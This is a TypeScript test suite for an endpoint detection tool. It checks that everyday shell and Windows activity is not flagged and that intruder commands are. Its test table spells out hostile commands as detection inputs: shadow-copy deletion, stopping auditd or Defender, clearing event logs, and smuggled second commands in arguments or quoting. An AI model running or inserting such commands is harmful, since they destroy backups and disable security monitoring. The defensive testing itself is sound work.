/** Ordinary days are accused of nothing, and intruders still are: the act is judged, not the words that stand in a command. */
import { expect, test } from 'vitest';
import {
  assessHosts,
  checkCommands,
  classifyCommand,
  createHostWatch,
  severityOf,
} from '../../../analysis/endpoint/index.ts';
import { normalizeEvent } from '../../../analysis/events/index.ts';
import { judgeArtifact, readArtifact } from '../../../analysis/forensics/index.ts';
import { SEVERITY_ORDER, type Severity } from '../../../protocol/index.ts';
import { LINUX_DAYS, linesOf, MAC_DAYS, WINDOWS_DAYS, WINDOWS_OWN } from '../../support/everyday-commands.ts';
import { INTRUDERS, INTRUDERS_QUIET } from '../../support/intruders-commands.ts';
import { literalContent } from '../../../seams/index.ts';

const rank = (severity: Severity) => SEVERITY_ORDER.indexOf(severity);
/** The gravest that any sign of a command says. */
const gravest = (command: string) =>
  Math.max(0, ...classifyCommand(command).signs.map((sign) => rank(severityOf(sign))));
const TYPED = [...linesOf(LINUX_DAYS), ...linesOf(MAC_DAYS), ...linesOf(WINDOWS_DAYS)];

test('what people type on ordinary days is no finding above low, whichever sign of it is asked', () => {
  expect(TYPED.length).toBeGreaterThan(300);
  expect(TYPED.filter((command) => gravest(command) > rank('low'))).toEqual([]);
  const { findings, verdict } = checkCommands(TYPED, literalContent());
  expect(findings.filter(({ severity }) => rank(severity) > rank('low'))).toEqual([]);
  expect(verdict).not.toBe('malicious');
});

test('a history of any of them, and of all of them, is not malicious', () => {
  const judge = (text: string) => judgeArtifact(readArtifact(Buffer.from(text), '.bash_history'));
  const accused = TYPED.filter((command) => {
    const { findings, verdict } = judge(`cd /srv\n${command}\nls\n`);
    return verdict === 'malicious' || findings.some(({ severity }) => rank(severity) > rank('low'));
  });
  expect(accused).toEqual([]);
  expect(judge(linesOf(LINUX_DAYS).join('\n')).verdict).not.toBe('malicious');
});

test('a morning of looking at services, logs and keys is benign', () => {
  const morning =
    'cd /srv\nsystemctl status auditd\nless /etc/rsyslog.conf\nsudo systemctl restart rsyslog\nls -la ~/.ssh\nssh-keygen -t ed25519\ncat ~/.ssh/id_ed25519.pub\nid\nwhoami\nuname -a\nps aux\nnetstat -tlnp\ndf -h\ncrontab -l\n';
  expect(judgeArtifact(readArtifact(Buffer.from(morning), '.bash_history'))).toMatchObject({
    verdict: 'benign',
    findings: [],
  });
});

test('what Windows, Defender, Office, browsers and management start by themselves is no finding above low', async () => {
  const watch = createHostWatch({});
  for (const [index, line] of linesOf(WINDOWS_OWN).entries()) {
    const [parent = '', command = ''] = line.split(' | ');
    const image = /^"([^"]+)"|^(.+?\.exe)/i.exec(command);
    const event = normalizeEvent(
      {
        Channel: 'Microsoft-Windows-Sysmon/Operational',
        EventID: 1,
        Hostname: `WS-${index}`,
        UtcTime: '2026-11-24 09:12:01.100',
        ProcessGuid: `{${index}}`,
        ProcessId: index,
        Image: image?.[1] ?? image?.[2] ?? command,
        CommandLine: command,
        ParentProcessGuid: `{parent-${index}}`,
        ParentImage: parent,
      },
      `line ${index + 1}`,
    );
    if (event) watch.note(event);
  }
  const { result } = await assessHosts(watch, {
    source: 'events',
    checked: { question: '?', corpus: { sha256: '0'.repeat(64), items: 1, items_read: 1 } },
    not_checked: [],
    data_versions: {},
  });
  expect(watch.tree.nodes().length).toBeGreaterThan(60);
  expect(result.findings.filter(({ severity }) => rank(severity) > rank('low'))).toEqual([]);
  expect(result.verdict).not.toBe('malicious');
});

test('what intruders do stays accused', () => {
  expect(linesOf(INTRUDERS).filter((command) => gravest(command) < rank('medium'))).toEqual([]);
  expect(linesOf(INTRUDERS_QUIET).filter((command) => gravest(command) < rank('low'))).toEqual([]);
});

test.each([
  "echo ' & vssadmin delete shadows /all & echo '",
  'echo \\" ; systemctl stop auditd ; echo \\"',
  'echo "vssadmin delete shadows /all" | cmd',
  'cat x $(systemctl stop auditd)',
  'find / -name x -exec systemctl stop auditd \\;',
  'LD_PRELOAD=/tmp/x.so ls',
  'less a; sudo systemctl stop auditd',
  'cmd /c "echo x & vssadmin delete shadows /all"',
  "bash -c 'ls; systemctl stop auditd'",
  'python3 -m http.server; curl --data x --post-file /etc/hosts; wget --post-file=/etc/hosts example.com',
  'git log; wevtutil cl Security',
  'tasklist & taskkill /f /im MsMpEng.exe',
  "vim -c '!systemctl stop auditd'",
  "man -P 'systemctl stop auditd' ls",
  "less +'!systemctl stop auditd' /etc/hosts",
  "git rebase -x 'systemctl stop auditd' main",
  "git grep -O'systemctl stop auditd' x",
  "rg --pre 'systemctl stop auditd' x",
  'ip netns exec x systemctl stop auditd',
  'Get-Service | Where-Object { Stop-Service WinDefend }',
  'Get-Content (Stop-Service WinDefend)',
])('an act is not hidden behind words that only look: %s', (command) => {
  expect(gravest(command)).toBeGreaterThanOrEqual(rank('medium'));
});

test('the gravest act accuses, though another sign decides for a technique', () => {
  expect(checkCommands(['systemctl stop auditd'], literalContent()).findings[0]).toMatchObject({
    rule: 'command/security-tool-stopped',
    severity: 'high',
  });
});

test('a mention is told as a mention: it stands among the signs, and is no finding', () => {
  const { commands, findings, mitre_techniques } = checkCommands(
    ['dsregcmd.exe $(Arg0) $(Arg1) $(Arg2)'],
    literalContent(),
  );
  expect(findings).toEqual([]);
  expect(mitre_techniques).toEqual([]);
  expect(commands[0]?.signs[0]).toMatchObject({ strength: 1, title: expect.stringMatching(/^mentions/) as string });
  expect(Object.keys(commands[0]?.signs[0] ?? {})).not.toContain('is_mention');
});
